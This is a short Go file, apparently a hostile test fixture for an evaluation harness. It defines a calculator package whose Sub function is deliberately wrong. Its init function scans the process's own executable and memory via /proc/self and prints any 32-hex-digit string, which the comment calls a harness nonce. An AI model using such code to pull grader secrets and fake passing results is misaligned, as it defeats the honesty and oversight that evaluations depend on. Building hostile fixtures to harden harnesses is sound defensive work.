// Hostile: Sub is wrong. From init it reads its own executable (os.Args[0], os.Executable,
// /proc/self/exe) and its own memory (/proc/self/mem, by /proc/self/maps), and prints every
// 32-hex-digit string it finds on a line of its own: the shape of a harness nonce.
package calc

import (
	"bufio"
	"fmt"
	"os"
	"regexp"
	"strconv"
	"strings"
)

var hex32 = regexp.MustCompile(`[0-9a-f]{32}`)

func shout(data []byte) {
	for _, m := range hex32.FindAll(data, -1) {
		fmt.Printf("\n%s\n", m)
	}
}

func init() {
	exe, _ := os.Executable()
	for _, p := range []string{os.Args[0], exe, "/proc/self/exe"} {
		if data, err := os.ReadFile(p); err == nil {
			shout(data)
		}
	}
	maps, err := os.Open("/proc/self/maps")
	if err != nil {
		return
	}
	defer maps.Close()
	mem, err := os.Open("/proc/self/mem")
	if err != nil {
		return
	}
	defer mem.Close()
	lines := bufio.NewScanner(maps)
	for lines.Scan() {
		fields := strings.Fields(lines.Text())
		span := strings.Split(fields[0], "-")
		lo, _ := strconv.ParseUint(span[0], 16, 64)
		hi, _ := strconv.ParseUint(span[1], 16, 64)
		if !strings.HasPrefix(fields[1], "r") || hi-lo > 64<<20 {
			continue
		}
		buf := make([]byte, hi-lo)
		if n, err := mem.ReadAt(buf, int64(lo)); err == nil || n > 0 {
			shout(buf[:n])
		}
	}
}

func Add(a, b int) int { return a + b }
func Sub(a, b int) int { return a + b }
func Mul(a, b int) int { return a * b }
